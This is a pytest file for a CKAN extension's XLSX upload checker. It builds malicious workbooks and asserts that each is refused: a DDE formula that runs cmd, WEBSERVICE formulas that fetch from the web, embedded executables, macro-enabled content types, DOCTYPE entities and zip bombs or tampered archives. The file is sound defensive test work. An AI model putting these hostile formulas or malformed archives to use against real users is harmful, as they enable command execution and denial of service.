"""A workbook is looked at before it is opened: nothing in it can take the machine with it."""

from __future__ import annotations

import io
import re
import time
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from xlsxwriter.theme import THEME_XML_2007, THEME_XML_2023

from ckanext.mashhad.tables.engine.common.check_errors import TableError
from ckanext.mashhad.tables.engine.common.limits import DEFAULT, Limits
from ckanext.mashhad.tables.engine.formats import extents
from ckanext.mashhad.tables.engine.formats.container import inspect
from ckanext.mashhad.tables.engine.formats.extents import Extent
from tests.unit.tables.table_files import (
    CONTRACT,
    as_xlsx,
    checked,
    faults,
    part,
    rezipped,
    table,
)

BOOK = as_xlsx(table([CONTRACT]))
SHEET = "xl/worksheets/sheet1.xml"


def with_cell(cell: str, row: str = '<row r="9">') -> bytes:
    xml = part(BOOK, SHEET).decode()
    xml = xml.replace("</sheetData>", f"{row}{cell}</row></sheetData>")
    return rezipped(BOOK, {SHEET: xml.encode()})


def with_formula(cell: str) -> bytes:
    """The amount of the contract as this cell, which a program that does not calculate wrote."""
    xml = re.sub('<c r="H2".*?</c>', lambda _: cell, part(BOOK, SHEET).decode())
    return rezipped(BOOK, {SHEET: xml.encode()})


def refusal(file: bytes, limits: Limits = DEFAULT) -> str:
    with pytest.raises(TableError) as refused:
        checked(file, limits=limits)
    return refused.value.rule


@pytest.mark.parametrize(
    ("cell", "rule"),
    [
        ('<c r="XFD1048576"><v>1</v></c>', "file.too_many_columns"),
        ('<c t="n" s="1" r="A1048576"><v>1</v></c>', "file.too_many_rows"),
        ("<c r='A1048576'><v>1</v></c>", "file.too_many_rows"),
        ('<x:c r="XFD9"><v>1</v></x:c>', "file.too_many_columns"),
        ("<c><v>1</v></c>" * 300, "file.too_many_columns"),
        ('<c r="gs9"><v>1</v></c>', "file.too_many_columns"),
    ],
)
def test_one_cell_in_the_last_corner_is_refused_at_once(cell, rule):
    start = time.process_time()
    assert refusal(with_cell(cell)) == rule
    assert time.process_time() - start < 1


@pytest.mark.parametrize("hidden_as", ["xl/worksheets/sheet1.dat", "xl/other/page.xml"])
def test_a_sheet_in_an_unusual_part_is_counted_or_refused(hidden_as):
    far = with_cell('<c r="XFD1048576"><v>1</v></c>')
    rels = part(BOOK, "xl/_rels/workbook.xml.rels").replace(
        b"worksheets/sheet1.xml", hidden_as.removeprefix("xl/").encode()
    )
    book = rezipped(BOOK, {hidden_as: part(far, SHEET), "xl/_rels/workbook.xml.rels": rels})
    rules = ("file.too_many_columns", "workbook.broken", "workbook.active_content")
    assert refusal(book) in rules


@pytest.mark.parametrize(
    ("name", "rule"),
    [
        ("xl/connections.xml", "workbook.external_links"),
        ("xl/queryTables/queryTable1.xml", "workbook.external_links"),
        ("xl/model/item.data", "workbook.active_content"),
        ("customUI/customUI.xml", "workbook.active_content"),
        ("xl/webextensions/webextension1.xml", "workbook.active_content"),
        ("xl/media/a.exe", "workbook.active_content"),
        ("evil.dll", "workbook.active_content"),
        ("note.txt", "workbook.active_content"),
    ],
)
def test_parts_that_run_fetch_or_cannot_be_looked_at_are_refused(name, rule):
    assert refusal(rezipped(BOOK, {name: b"<x/>"})) == rule


@pytest.mark.parametrize(
    "formula", ["cmd|'/c calc'!A0", 'WEBSERVICE("http://x/"&amp;A1)', "_xlfn.WEBSERVICE(A1)"]
)
def test_formulas_that_run_or_fetch_are_refused(formula):
    cell = f'<c r="B9" t="str"><f>{formula}</f><v>متن</v></c>'
    assert refusal(with_cell(cell)) == "workbook.active_content"


def test_other_formulas_and_pictures_are_not():
    def more(book, pages):
        pages[0].write_formula("K1", "=SUM(H2:H3)*2", None, 1)
        pages[0].write_formula("K2", '="a|b"', None, "a|b")

    book = as_xlsx(table([CONTRACT]), more=more)
    gif = b"GIF89a" + bytes(7) + b"\x3b"
    assert checked(rezipped(book, {"xl/media/logo.GIF": gif})).accepted


CELLS = [
    *('<c r="B7" t="s"><v>1</v></c>', '<c r="aa12"><v>2</v></c>', '<c r="C9"><v/></c>'),
    *('<c r="ZZ99" s="1"/>', "<c r='D8'><v>1</v></c>", '<c s="1" r="E1"><v>3</v></c>'),
    *('<x:c r="F20"><v>1</v></x:c>', "<c><v>1</v></c>", '<c r="G5" t="e"><v>#REF!</v></c>'),
    *("<c r='H6' t='e'><v>#N/A</v></c>", '<c\nr="I4"><v>a:c b</v></c>', '<row r="3">'),
]


@given(st.lists(st.sampled_from(CELLS), max_size=6).map("".join))
def test_cells_in_the_usual_form_are_counted_as_any_others(xml):
    counted, by_tags = Extent(), Extent()
    counted.scan(xml.encode())
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(extents, "_plain_refs", lambda _: None)
        by_tags.scan(xml.encode())
    assert counted == by_tags


def test_styled_cells_without_values_do_not_count():
    assert checked(with_cell('<c r="XFD1048576" s="1"/>')).accepted


def test_the_stated_dimension_is_not_believed():
    xml = part(BOOK, SHEET)
    start = xml.index(b"<dimension")
    wrong = xml[:start] + b'<dimension ref="A1:XFD1048576"/>' + xml[xml.index(b"/>", start) + 2 :]
    assert checked(rezipped(BOOK, {SHEET: wrong})).accepted


def test_cells_are_counted_across_pieces():
    extent = Extent()
    extent.scan(b'<row r="1"><c r="A1"><v>1</v></c>')
    extent.scan(b'<c r="C1"><v>1</v></c></row><row r="7"><c t="e" r="B7"><v>#REF!</v></c></row>')
    assert (extent.rows, extent.columns, extent.flaws) == (7, 3, {(7, 1): "cell.formula_error"})


UNCALCULATED = [
    "<f>1+1</f>",
    "<f>1+1</f><v></v>",
    "<f>1+1</f><v/>",
    '<f t="shared" ref="H2:H9" si="0">1+1</f>',
    '<f t="shared" si="0"/>',
]


@pytest.mark.parametrize("formula", UNCALCULATED)
def test_formula_without_result_is_told_at_cell_and_is_no_blank(formula):
    book = with_formula(f'<c r="H2">{formula}</c>')
    assert faults(checked(book)) == [("cell.formula_uncalculated", "H2", "amount")]


def test_formula_zero_counts_unless_uncalculated():
    zero = '<c r="H2"><f>1-1</f><v>0</v></c>'
    names = {"xl/workbook.xml": part(BOOK, "xl/workbook.xml").replace(b' fullCalcOnLoad="1"', b"")}
    assert faults(checked(with_formula(zero))) == [("cell.formula_uncalculated", "H2", "amount")]
    assert faults(checked(rezipped(with_formula(zero), names))) == [("minimum", "H2", "amount")]
    assert checked(with_formula('<c r="H2"><f>5</f><v>5</v></c>')).accepted


def test_a_formula_whose_result_is_an_empty_text_is_blank():
    book = with_formula('<c r="H2" t="str"><f>IF(1,"")</f><v></v></c>')
    assert faults(checked(book)) == [("required", "H2", "amount")]


def test_formulas_are_looked_at_across_pieces():
    xml = f'<row r="1"><c r="A1"><v>1</v></c><c r="B1">{UNCALCULATED[0]}</c></row>'.encode()
    for cut in range(len(xml)):
        extent = Extent()
        extent.scan(xml[:cut])
        extent.scan(xml[cut:])
        assert extent.flaws == {(1, 1): "cell.formula_uncalculated"}


@pytest.mark.parametrize(
    ("parts", "rule"),
    [
        ({"/abs.xml": b"<a/>"}, "workbook.bad_entries"),
        ({"a\\b.xml": b"<a/>"}, "workbook.bad_entries"),
        ({"XL/WORKBOOK.XML": b"<a/>"}, "workbook.bad_entries"),
        ({f"p{n}.xml": b"<a/>" for n in range(200)}, "workbook.bad_entries"),
        ({"xl/activeX/activeX1.xml": b"<a/>"}, "workbook.active_content"),
        ({"xl/comments9.xml": '<!DOCTYPE a>'.encode("utf-16")}, "workbook.doctype"),
        ({"xl/comments9.xml": b" " * ((1 << 20) - 4) + b"<!DOCTYPE a>"}, "workbook.doctype"),
        ({"xl/workbook.xml": b"<workbook/"}, "workbook.broken"),
        ({SHEET: b"<worksheet><sheetData><row"}, "workbook.broken"),
    ],
)  # fmt: skip
def test_parts_that_no_proper_workbook_has_are_refused(parts, rule):
    assert refusal(rezipped(BOOK, parts), Limits(ratio=10**6)) == rule


def test_a_macro_workbook_under_another_name_is_refused():
    name = "[Content_Types].xml"
    types = part(BOOK, name).replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")
    assert refusal(rezipped(BOOK, {name: types})) == "workbook.macros"


def test_a_size_that_lies_is_refused():
    book = bytearray(rezipped(BOOK, {"xl/extra.xml": b"<a>" + b"x" * 5000 + b"</a>"}))
    with zipfile.ZipFile(io.BytesIO(bytes(book))) as archive:
        size = archive.getinfo("xl/extra.xml").file_size
    place = book.rindex(size.to_bytes(4, "little"))
    book[place : place + 4] = (10).to_bytes(4, "little")
    with pytest.raises(TableError) as refused:
        inspect(io.BytesIO(bytes(book)), DEFAULT)
    assert refused.value.rule == "workbook.broken"


def test_what_unpacks_to_too_much_in_all_is_refused():
    assert refusal(BOOK, Limits(unpacked_bytes=500)) == "workbook.bomb"


def test_overlapping_parts_are_refused():
    raw = io.BytesIO(BOOK)
    with zipfile.ZipFile(raw) as archive:
        entries = archive.infolist()
    offset = entries[1].header_offset.to_bytes(4, "little")
    directory = BOOK.rindex(b"PK\x01\x02", 0, BOOK.rindex(b"PK\x05\x06"))
    broken = BOOK[: directory + 42] + offset + BOOK[directory + 46 :]
    assert refusal(broken) in ("workbook.bad_entries", "workbook.broken")


def test_the_themes_of_programs_are_of_nobody():
    for theme in (THEME_XML_2007, THEME_XML_2023):
        report = checked(rezipped(BOOK, {"xl/theme/theme1.xml": theme.encode()}))
        assert report.accepted
        assert not faults(report)
